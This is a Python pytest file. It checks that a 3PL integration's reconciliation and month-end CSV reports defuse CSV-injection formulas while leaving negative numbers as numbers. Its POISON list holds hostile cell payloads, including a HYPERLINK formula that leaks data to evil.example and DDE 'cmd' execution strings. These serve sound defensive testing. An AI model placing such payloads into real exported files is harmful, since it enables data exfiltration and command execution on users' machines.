"""reports.py's CSV files (issue 13, defect 9): text from a 3PL file must not reach a finance CSV as a formula.

A spreadsheet runs a cell that starts with = + - @ (or a tab / CR / LF before one) as a formula (OWASP "CSV
injection"). The reports prefix such a text cell with ``'``; numbers the reports format themselves ("-200.00")
stay numbers. The files are read back with the csv module, as a spreadsheet would split them.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timezone
from decimal import Decimal
from types import SimpleNamespace

import pytest

from threepl_bridge.ledger.repo import Ledger
from threepl_bridge.reports import write_month_end_report, write_reconciliation_report

POISON = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]
FORMULA_START = tuple("=+-@\t\r\n")
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def cells(path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))


def assert_no_formula(table: list[list[str]]) -> None:
    for row in table:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or PLAIN_NUMBER.fullmatch(cell), f"formula cell {cell!r} in {row}"


@pytest.fixture
def ledger(tmp_path) -> Ledger:
    return Ledger.open(f"sqlite:///{tmp_path / 'ledger.db'}")


def test_reconciliation_csv_neutralises_formulas_from_the_3pl_file_and_keeps_negative_numbers(ledger, tmp_path):
    reg = ledger.register_inbound(partner="demo3pl", kind="stock", folder="/in", name="STOCK_1.csv", sha256="a" * 64, size=10)
    ledger.record_rows(reg.exchange_id, [
        {"row_number": 2 + i, "outcome": "exception", "code": "STOCK_UNKNOWN_SKU", "field": "sku", "message": text}
        for i, text in enumerate(POISON)
    ])
    lines = [
        {"sku": text, "lot": POISON[(i + 1) % len(POISON)], "threepl_qty": Decimal(100), "odoo_qty": Decimal(300),
         "variance_qty": Decimal(-200), "unit_cost": Decimal(1), "variance_value": Decimal("-200.00"), "classification": "variance",
         "explanation": POISON[(i + 2) % len(POISON)], "approval": "pending"}
        for i, text in enumerate(POISON)
    ]
    recon = ledger.store_reconciliation(
        partner="demo3pl", exchange_id=reg.exchange_id, as_of=datetime(2026, 11, 20, 10, tzinfo=timezone.utc), currency="EUR",
        lines=lines, variance_value=Decimal(-1400), unknown_rows={},
        data_quality=[{"expectation": "expect_x", "column": POISON[0], "code": "STOCK_QTY_NEGATIVE", "success": True, "unexpected": 0}])
    csv_path, html_path = write_reconciliation_report(ledger, recon, tmp_path / "reports")
    table = cells(csv_path)
    assert {len(row) for row in table} == {14}  # a CR inside a value does not split its row
    assert_no_formula(table)
    flat = [c for row in table for c in row]
    for text in POISON:  # still there, readable, as text
        assert "'" + text in flat
    line_rows = [row for row in table if row[0] == "line"]
    assert len(line_rows) == len(POISON)
    assert {row[6] for row in line_rows} == {"-200.0000"} and {row[10] for row in line_rows} == {"-200.00"}  # numbers stay numbers
    assert ["total", "", "", "variance_value", "", "", "", "", "", "", "-1400.00", "", "", "EUR"] in table
    assert "&lt;" not in csv_path.read_text() and "=HYPERLINK(&quot;" in html_path.read_text()  # HTML escaping as before


def test_month_end_csv_neutralises_formulas_and_keeps_negative_numbers(tmp_path):
    report = SimpleNamespace(
        partner="demo3pl", month="2026-11", currency="EUR", ready=False, verdict="=1+1",
        figures=[("movements", "shrinkage", Decimal(-5), Decimal("-200"), POISON[0]), ("movements", POISON[1], 3, Decimal("12.5"), "")],
        unposted=[("dispatch", POISON[2], POISON[3])],
    )
    csv_path, _ = write_month_end_report(report, tmp_path / "reports")
    table = cells(csv_path)
    assert_no_formula(table)
    assert table[1] == ["movements", "shrinkage", "-5.0000", "-200.00", "'" + POISON[0]]
    assert table[2][1] == "'" + POISON[1]
    assert table[-1] == ["verdict", "not_ready", "", "", "'=1+1"]


@pytest.mark.parametrize("text", ["-200.00", "-5", "0", "12.5", "A-1", "SKU=1", "O'Brien", ""])
def test_plain_text_and_numbers_are_written_unchanged(tmp_path, text):
    report = SimpleNamespace(partner="p", month="2026-11", currency="EUR", ready=True, verdict="ok", figures=[("s", text, None, None, text)],
                             unposted=[])
    csv_path, _ = write_month_end_report(report, tmp_path)
    assert cells(csv_path)[1] == ["s", text, "", "", text]
